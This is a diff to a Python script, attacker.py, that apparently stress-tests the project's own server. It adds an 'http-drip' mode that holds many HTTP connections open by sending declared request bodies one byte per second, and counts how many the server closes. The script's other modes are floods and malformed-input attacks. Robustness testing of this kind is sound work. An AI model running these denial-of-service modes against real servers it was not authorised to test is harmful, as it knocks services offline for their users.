@@ -6,6 +6,7 @@
   attacker.py tftp-half-open SERVER PATH COUNT RATE   requests of spoofed addresses that nobody goes on with
   attacker.py tftp-garbage SERVER COUNT   malformed requests; then whether the server still answers
   attacker.py http-idle SERVER COUNT SECONDS          connections that send half a request and wait
+  attacker.py http-drip SERVER COUNT SECONDS          bodies that come a byte a second
   attacker.py http-garbage SERVER COUNT   absurd requests, each on a connection of its own
   attacker.py tcp-garbage SERVER PORT COUNT SECONDS   connections that send random bytes, or greet in ZMTP without CURVE
 """
@@ -236,6 +237,32 @@ HTTP_REQUESTS = [
 ]
 
 
+def http_drip(server, count, seconds):
+    """Requests of three methods whose bodies come a byte at a time. How many connections the server has closed in that time."""
+    words = ("POST /phone-home/52-54-00-00-00-01", "GET /", "PUT /")
+    open_ones = []
+    for i in range(int(count)):
+        sock = socket.create_connection((server, 80), timeout=5)
+        sock.sendall(f"{words[i % 3]} HTTP/1.1\r\nHost: x\r\nContent-Length: 4000\r\n\r\n".encode())
+        sock.settimeout(0.01)
+        open_ones.append(sock)
+    end, closed = time.monotonic() + float(seconds), 0
+    while open_ones and time.monotonic() < end:
+        for sock in list(open_ones):
+            try:
+                sock.sendall(b"x")
+                ended = sock.recv(4096) == b""
+            except TimeoutError:
+                continue
+            except OSError:
+                ended = True
+            if ended:
+                open_ones.remove(sock)
+                closed += 1
+        time.sleep(1)
+    return {"closed": closed}
+
+
 def http_garbage(server, count):
     rng = random.Random(5)
     codes = {}
@@ -294,7 +321,8 @@ def tcp_garbage(server, port, count, seconds):
 
 
 MODES = {"discover-flood": discover_flood, "garbage": garbage, "forged": forged, "tftp-half-open": tftp_half_open,
-         "tftp-garbage": tftp_garbage, "http-idle": http_idle, "http-garbage": http_garbage, "tcp-garbage": tcp_garbage}
+         "tftp-garbage": tftp_garbage, "http-idle": http_idle, "http-drip": http_drip, "http-garbage": http_garbage,
+         "tcp-garbage": tcp_garbage}
 
 if __name__ == "__main__":
     print(json.dumps(MODES[sys.argv[1]](*sys.argv[2:])), flush=True)
